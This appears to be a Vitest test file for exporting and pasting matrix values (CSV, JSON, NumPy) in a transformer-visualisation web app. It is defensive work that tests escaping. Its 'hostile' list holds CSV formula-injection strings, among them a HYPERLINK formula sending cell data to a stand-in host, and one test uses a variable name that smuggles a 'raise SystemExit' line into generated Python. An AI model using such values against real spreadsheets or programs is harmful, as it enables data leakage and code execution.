// Values as text: what is copied can be pasted, and as a NumPy program it computes the same numbers.
import { execFileSync } from 'node:child_process';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Figure, FigureState } from '../../web/figure.ts';
import { FIGURES, type SpokenFigure } from '../../web/figures/registry.ts';
import block from '../../web/figures/block/figure.ts';
import { identifiers } from '../../web/element/export/identifiers.ts';
import { numpyProgram } from '../../web/element/export/numpy.ts';
import { valuesAsCsv, valuesAsJson, valuesAsNumpy } from '../../web/element/export/values-as-text.ts';
import { defaultPreset, presetState } from '../../web/state/change.ts';
import { parseValues, withValues } from '../../web/state/pasted.ts';
import { isFault, loadCore, type Core, type Trace, type TraceNode } from '../../wasm/wrapper/index.ts';

let core: Core;
beforeAll(async () => {
  core = await loadCore();
});

const start = presetState(block, 'small-block');

function traceOf(figure: Figure, state: FigureState): Trace {
  const trace = core.evaluate(figure.program(state));
  if (isFault(trace)) throw new Error(`${trace.code} ${trace.symbol}`);
  return trace;
}

const doubled = (state: FigureState): FigureState => ({
  ...state,
  matrices: Object.fromEntries(
    Object.entries(state.matrices).map(([symbol, matrix]) => [
      symbol,
      symbol === 'seed' ? matrix : { ...matrix, data: matrix.data.map((value) => value * 2 + 1e-7) },
    ]),
  ),
});

describe('copied values', () => {
  it.each([
    ['CSV', valuesAsCsv],
    ['JSON', valuesAsJson],
    ['NumPy', valuesAsNumpy],
    ['a NumPy program', numpyProgram],
  ] as const)('as %s are pasted back as they were, to the last digit', (_, write) => {
    const source = doubled(start);
    const choices = { ...start.choices, network: 'swiglu', attention: 'zero', 'path-1': 'cut' };
    const text = write(traceOf(block, { ...source, choices }));
    const next = withValues(block, start, parseValues(text, 'en')!);
    expect(next).toMatchObject({ matrices: source.matrices });
  });
});

describe('names of authors in CSV', () => {
  const numbers = { rows: 2, columns: 2, data: Float64Array.of(-1.5, 0.25, 1e21, -3e-7) };
  const named = (name: string) => ({ name, ...numbers }) as unknown as TraceNode;
  const csv = (...names: string[]) => valuesAsCsv({ nodes: names.map(named) } as unknown as Trace);
  const rows = [
    [-1.5, 0.25],
    [1e21, -3e-7],
  ];
  const hostile = [
    '=HYPERLINK("http://a.example/?"&A1)',
    '=1+1',
    '+1',
    '-1',
    '-A',
    '@SUM(A1)',
    '\tA',
    '\r=1',
    '\n=1',
    ' =1',
    '＝1',
    '＠A',
    "'=1",
    "''",
    "'A",
    '"=1"',
    'A\nB',
    'A\r\nB',
    'A\r=B',
    'A = B',
    'A,B;C\tD',
    '1',
    '(A)',
    'A ',
    'E + M',
    'N₁(X)',
  ];

  it.each(hostile)('begin no formula, and are pasted back as they were: %j', (name) => {
    const text = csv(name);
    expect(text).not.toMatch(/^"?[=+\-@＝＋－＠\t\r\n ]/);
    expect(parseValues(text, 'en')).toEqual([{ name, rows }]);
  });

  it('are each its own among many, and no number is changed', () => {
    const text = csv(...hostile);
    expect(parseValues(text, 'en')).toEqual(hostile.map((name) => ({ name, rows })));
    expect(text.split('\n-1.5,0.25\n1e+21,-3e-7\n')).toHaveLength(hostile.length + 1);
  });

  it('of ours stand as they are', () => {
    expect(
      csv('W_Q', 'E + M', 'head 1 · Q')
        .split('\n')
        .filter((line) => /^[^-\d]/.test(line)),
    ).toEqual(['W_Q', 'E + M', 'head 1 · Q']);
  });
});

describe('pasted values', () => {
  const pasted = (text: string) => parseValues(text, 'en');
  const grid = [
    [1, -0.5],
    [0.25, 2],
  ];

  it.each([
    ['[[1, -0.5], [0.25, 2]]'],
    ['1,-0.5\n0.25,2'],
    ['1\t-0.5\n0.25\t2'],
    ['[[ 1.   -0.5 ]\n [ 0.25  2.  ]]'],
    ['array([[ 1.  , -0.5 ],\n       [ 0.25,  2.  ]])'],
    ['[[ 1.\n  -0.5 ]\n [ 0.25\n   2.  ]]'],
  ])('without a name: %j', (text) => {
    expect(pasted(text)).toEqual([{ name: undefined, rows: grid }]);
  });

  it.each([
    ['{"W_Q": [[1, -0.5], [0.25, 2]], "E + M": [[null, 1]]}'],
    ['W_Q\n1,-0.5\n0.25,2'],
    ['W_Q =\n[[ 1.   -0.5 ]\n [ 0.25  2.  ]]'],
    ['W_Q = np.array([[1, -0.5],\n    [0.25, 2]])'],
    ['W_Q\n1,-0.5\n0.25,2\n\nE + M\n-inf,0\n'],
  ])('with a name: %j', (text) => {
    expect(pasted(text)).toEqual([{ name: 'W_Q', rows: grid }]);
  });

  it('keep what commas mean where they are typed', () => {
    expect(parseValues('0,5 1,5', 'fr')).toEqual([{ name: undefined, rows: [[0.5, 1.5]] }]);
    expect(pasted('1,234.5')).toEqual([{ name: undefined, rows: [[1234.5]] }]);
  });

  it.each(['', 'hello', '[[1, 2], [3]]', '{"a": "b"}', '[[1, null]]', '[]', '9'.repeat(300_000)])(
    'that are no grids of numbers are refused (%#)',
    (text) => {
      expect(pasted(text)).toBeUndefined();
    },
  );

  it('change nothing where their names are unknown, or their sizes do not fit one another', () => {
    expect(withValues(block, start, pasted('Z\n1,2,3')!)).toBe('unknown');
    expect(withValues(block, start, pasted('W_Q\n1,2,3')!)).toBe('sizes');
  });

  it('bring their sizes along where all of them fit', () => {
    const X = [...Array(6).keys()].map(() => Array(8).fill(0.5).join(',')).join('\n');
    const next = withValues(block, start, pasted(`X\n${X}`)!);
    expect(typeof next === 'object' && next.matrices['X']!.rows).toBe(6);
  });
});

describe('names of variables', () => {
  it('are words of Python, each node having one of its own', () => {
    const names = ['head 1 · Q', 'N₁(X)', 'E + M', '0X', 'W_Q', 'Δ', 'A B', 'A · B', 'np'];
    const own = [...identifiers(names).values()];
    expect(own.slice(0, 6)).toEqual(['head_1_Q', 'N1_X', 'E_plus_M', '_0X', 'W_Q', 'Δ']);
    expect(new Set(own).size).toBe(names.length);
    expect(own.at(-1)).not.toBe('np');
  });
});

describe('a NumPy program', () => {
  /** What the program holds under each name after it ran. */
  function run(trace: Trace): number[][][] {
    const names = identifiers(trace.nodes.map(({ name }) => name));
    const values = trace.nodes.map(({ name }) => `np.atleast_2d(${names.get(name)})`).join(', ');
    const tell = `import json\nprint(json.dumps([np.where(np.isinf(v), -1e999, v).tolist() for v in (${values},)]))`;
    // The set-up says which Python has NumPy; Debian's own has Debian's.
    const output = execFileSync(process.env['PYTHON'] ?? '/usr/bin/python3', ['-'], {
      input: `${numpyProgram(trace)}\n${tell}`,
      encoding: 'utf8',
    });
    const json = output.trim().split('\n').at(-1)!.replaceAll('-Infinity', '-1e999');
    return JSON.parse(json) as number[][][];
  }

  function expectSame(trace: Trace, what: string) {
    const values = run(trace);
    trace.nodes.forEach(({ name, data }, index) => {
      values[index]!.flat().forEach((value, cell) => {
        const own = data[cell]!;
        const apart = value === own ? 0 : Math.abs(value - own) / Math.max(1, Math.abs(own));
        expect(apart, `${what}: ${name}`).toBeLessThan(1e-12);
      });
    });
  }

  it.each([
    ['pre-norm, RMSNorm, ReLU', {}],
    [
      'post-norm, LayerNorm, GELU, all read',
      { order: 'post', norm: 'layer', network: 'gelu', reading: 'full' },
    ],
    [
      'SwiGLU, four heads, a branch 0, a path cut',
      { network: 'swiglu', heads: '4', ffn: 'zero', 'path-1': 'cut' },
    ],
  ] as const)('computes every number of the block: %s', (what, choices) => {
    const trace = traceOf(block, { ...start, choices: { ...start.choices, ...choices } });
    expectSame(trace, what);
    // It computes: only the inputs are written out.
    const literals = numpyProgram(trace).match(/np\.array\(/g)!.length;
    expect(literals).toBe(trace.nodes.filter(({ operation }) => operation === 'input').length);
  });

  it('computes every number under whatever names an author gave', () => {
    const two = (value: number) => ({ rows: 1, columns: 2, data: Float64Array.of(value, 2 * value) });
    const steps = [
      'lambda',
      'None',
      'KT',
      'K\u1d40',
      'k₁',
      'k1',
      'fi',
      '\ufb01',
      'a\nraise SystemExit',
      'a # b',
    ];
    const trace = core.evaluate({
      inputs: { from: two(1), c: { rows: 1, columns: 1, data: Float64Array.of(3) } },
      steps: steps.map((name, index) => ({
        name,
        operation: 'scale_by',
        operands: [steps[index - 1] ?? 'from', 'c'],
      })),
    });
    if (isFault(trace)) throw new Error(trace.code);
    expectSame(trace, 'names');
  });

  it('normalizes rows of equal numbers, of zeros and far from zero as the core does, with ε = 0 too', () => {
    const rows = [
      [0.1, 0.1, 0.1],
      [0, 0, 0],
      [1e16, 1e16 + 2, 1e16 + 6],
    ];
    const row = (value: number) => ({ rows: 1, columns: 3, data: new Float64Array(3).fill(value) });
    const trace = core.evaluate({
      inputs: {
        X: { rows: 3, columns: 3, data: Float64Array.from(rows.flat()) },
        γ: row(2),
        β: row(-1),
        ε: { rows: 1, columns: 1, data: Float64Array.of(0) },
      },
      steps: [
        { name: 'layer', operation: 'layer_norm', operands: ['X', 'γ', 'β', 'ε'] },
        { name: 'rms', operation: 'rms_norm', operands: ['X', 'γ', 'ε'] },
      ],
    });
    if (isFault(trace)) throw new Error(trace.code);
    expectSame(trace, 'norms');
  });

  it('computes every number of every figure', async () => {
    for (const [id, entry] of Object.entries(FIGURES)) {
      const { figure } = (await entry.en()) as SpokenFigure;
      expectSame(traceOf(figure, presetState(figure, defaultPreset(figure))), id);
    }
  });
});
